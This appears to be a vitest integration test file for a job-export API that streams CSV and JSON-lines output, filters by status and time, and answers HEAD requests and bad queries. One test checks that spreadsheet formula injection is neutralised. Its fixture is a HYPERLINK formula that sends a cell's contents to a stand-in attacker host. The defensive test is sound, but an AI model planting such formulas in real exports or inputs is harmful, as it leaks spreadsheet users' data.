// GET /api/jobs/export against a real master on both stores: 10,000 jobs stream out
// with the master's heap flat, and the rows are the jobs.
import { randomUUID } from 'node:crypto';
import v8 from 'node:v8';
import vm from 'node:vm';
import { Readable } from 'node:stream';
import type { ReadableStream as WebReadableStream } from 'node:stream/web';
import { parse } from 'csv-parse';
import { parse as parseSync } from 'csv-parse/sync';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { deleteRedisKeys, TEST_REDIS_URL } from '../../test/support/stores.ts';
import { startTestMaster, type TestMaster } from '../../test/support/test-master.ts';
import type { JobResult, JobView } from '../api-types.ts';
import { JOB_COLUMNS } from '../http/job-rows.ts';
import type { JobStore } from '../store/job-store.ts';
import { newJob } from '../../metrics/uploaded-files.ts';

v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;

const STORES = [
  { name: 'sqlite', overrides: () => ({}) },
  { name: 'redis', overrides: () => ({ redisUrl: TEST_REDIS_URL, redisPrefix: `test:${randomUUID()}:` }) },
];

/** A tiny PNG signature is enough: the store keeps bytes, it does not decode them. */
const IMAGE = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

async function createJobs(store: JobStore, count: number, name: (i: number) => string, now = Date.now()): Promise<JobView[]> {
  const created: JobView[] = [];
  for (let i = 0; i < count; i += 500) {
    const batch = Array.from({ length: Math.min(500, count - i) }, (_, j) => newJob(name(i + j), 'image/png', IMAGE));
    created.push(...(await store.create(batch, now)).jobs);
  }
  return created;
}

async function finish(store: JobStore, result: JobResult, name = 'test worker'): Promise<JobView> {
  const worker = { id: 'w1', name, backend: 'cpu', identity: 'w1', workerClass: 'trusted' as const };
  const [lease] = await store.lease([worker], 60_000, Date.now());
  const done = await store.complete(lease!, worker.id, result, Date.now());
  if (!done.applied) throw new Error(`complete refused: ${done.reason}`);
  return done.job;
}

const exportUrl = (master: TestMaster, query: string) => `${master.url}/api/jobs/export?${query}`;

async function exportRows(master: TestMaster, query: string): Promise<Record<string, string>[]> {
  const response = await fetch(exportUrl(master, query));
  expect(response.status).toBe(200);
  return parseSync(await response.text(), { columns: true }) as Record<string, string>[];
}

describe.each(STORES)('export on $name', ({ overrides }) => {
  let master: TestMaster | undefined;
  afterEach(async () => {
    await master?.close();
    if (master?.config.redisUrl) await deleteRedisKeys(master.config.redisPrefix);
    master = undefined;
  });

  it('streams 10,000 jobs with the heap flat, newest first, one row per job', async () => {
    master = await startTestMaster(overrides());
    // Long names make the output (~25 MB) dwarf the heap's everyday swings, so buffering it would show.
    const created = await createJobs(master.store, 10_000, (i) => `${String(i).padStart(5, '0')}-${'x'.repeat(2000)}.png`);

    // The live heap (after a full collection) is sampled at every 2 MB received: garbage not yet collected is no growth.
    const liveHeap = () => {
      gc();
      return process.memoryUsage().heapUsed;
    };
    const expected = [...created].reverse();
    const before = liveHeap();
    let growth = 0;
    let bytes = 0;
    let nextSample = 0;
    const response = await fetch(exportUrl(master, 'format=csv'));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const body = Readable.fromWeb(response.body as WebReadableStream<Uint8Array>).on('data', (chunk: Buffer) => {
      bytes += chunk.length;
      if (bytes < nextSample) return;
      nextSample += 2e6;
      growth = Math.max(growth, liveHeap() - before);
    });
    let header: string[] = [];
    let rows = 0;
    const mismatches: string[] = [];
    for await (const row of body.pipe(parse({ columns: (names: string[]) => (header = names) }))) {
      const { id, fileName, status } = row as Record<string, string>;
      const job = expected[rows++];
      if (id !== job?.id || fileName !== job?.fileName || status !== 'queued') mismatches.push(`row ${rows}: ${id} ${status}`);
    }
    console.log(`export of ${rows} jobs: ${(bytes / 1e6).toFixed(1)} MB out, live heap grew at most ${(growth / 1e6).toFixed(1)} MB`);

    expect(header).toEqual(JOB_COLUMNS);
    expect(rows).toBe(10_000);
    expect(mismatches).toEqual([]);
    expect(bytes).toBeGreaterThan(20e6);
    // Holding the jobs or the output would grow the live heap by more than the output's size; streaming holds a page or so.
    expect(growth).toBeLessThan(bytes / 4);
  });

  it('filters by status and time, writes results into columns, and speaks JSON lines', async () => {
    master = await startTestMaster(overrides());
    const older = await createJobs(master.store, 3, (i) => `old-${i}.png`, Date.parse('2026-01-01T00:00:00Z'));
    const newer = await createJobs(master.store, 2, (i) => `new-${i}.png`);
    const predictions = ['tabby, tabby cat', 'tiger cat', 'Egyptian cat', 'lynx, catamount', 'tiger'].map((label, index) => ({
      index,
      label,
      probability: 0.5 / (index + 1),
    }));
    const done = await finish(master.store, { predictions, model: 'abc123', backend: 'cpu', inferenceMs: 12.5 });
    expect(done.id).toBe(older[0]!.id);

    const [doneRow, ...others] = await exportRows(master, 'status=done');
    expect(others).toEqual([]);
    expect(doneRow).toMatchObject({ id: done.id, status: 'done', fileName: 'old-0.png', worker: 'test worker', model: 'abc123', backend: 'cpu' });
    expect([doneRow!.label1, Number(doneRow!.probability1), doneRow!.label5, Number(doneRow!.probability5)]).toEqual(['tabby, tabby cat', 0.5, 'tiger', 0.1]);
    // Labels are not unique (two ImageNet classes are both "crane"): each prediction's class index is there to score by.
    expect([1, 2, 3, 4, 5].map((k) => doneRow![`index${k}`])).toEqual(['0', '1', '2', '3', '4']);

    const recent = await exportRows(master, `since=${encodeURIComponent('2026-06-01T00:00:00Z')}`);
    expect(recent.map((row) => row.fileName)).toEqual(['new-1.png', 'new-0.png']);

    const lines = await fetch(exportUrl(master, 'format=jsonl')).then(async (response) => {
      expect(response.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
      return (await response.text())
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as JobView);
    });
    expect(lines.map((job) => job.id)).toEqual([...older, ...newer].reverse().map((job) => job.id));
    expect(lines.find((job) => job.id === done.id)).toEqual(done);
  });

  it('writes what strangers typed as text a spreadsheet will not run, in CSV only', async () => {
    master = await startTestMaster(overrides());
    const fileName = '=HYPERLINK("http://attacker.test/?leak="&A1,"open").png';
    await createJobs(master.store, 1, () => fileName);
    const result = { predictions: [{ index: 0, label: 'tench, Tinca tinca', probability: 0.9 }], model: 'abc123', backend: 'cpu', inferenceMs: 1 };
    await finish(master.store, result, '@SUM(1+1)');

    const [row] = await exportRows(master, 'format=csv');
    expect([row!.fileName, row!.worker]).toEqual([`'${fileName}`, "'@SUM(1+1)"]);
    const [line] = (await fetch(exportUrl(master, 'format=jsonl')).then((response) => response.text())).split('\n');
    expect(JSON.parse(line!)).toMatchObject({ fileName, worker: '@SUM(1+1)' });
  });

  it('answers HEAD with the headers of the export and no body, reading no job', async () => {
    master = await startTestMaster(overrides());
    // Several pages' worth: a HEAD that streamed would read them all, and send none.
    await createJobs(master.store, 1_000, (i) => `${i}.png`);
    const list = vi.spyOn(master.store, 'list');
    for (const format of ['csv', 'jsonl']) {
      list.mockClear();
      const head = await fetch(exportUrl(master, `format=${format}&status=queued`), { method: 'HEAD' });
      expect(head.status).toBe(200);
      expect(await head.text()).toBe('');
      expect(list).not.toHaveBeenCalled();
      const get = await fetch(exportUrl(master, `format=${format}&status=queued`));
      expect(get.status).toBe(200);
      for (const name of ['content-type', 'content-disposition', 'cache-control'])
        expect([name, head.headers.get(name)]).toEqual([name, get.headers.get(name)]);
      expect((await get.text()).trim().split('\n')).toHaveLength(format === 'csv' ? 1_001 : 1_000);
      // The GET read its pages through the same store: the spy counts.
      expect(list.mock.calls.length).toBeGreaterThan(1);
    }
    // A bad query is as bad asked with HEAD (400, the body dropped).
    expect((await fetch(exportUrl(master, 'format=xml'), { method: 'HEAD' })).status).toBe(400);
  });

  it('answers 400 with the field named for a bad query', async () => {
    master = await startTestMaster(overrides());
    for (const [query, code] of [
      ['status=finished', 'bad-status'],
      ['since=yesterday', 'bad-since'],
      ['format=xml', 'bad-format'],
    ]) {
      const response = await fetch(exportUrl(master, query!));
      expect(response.status).toBe(400);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe(code);
    }
  });
});
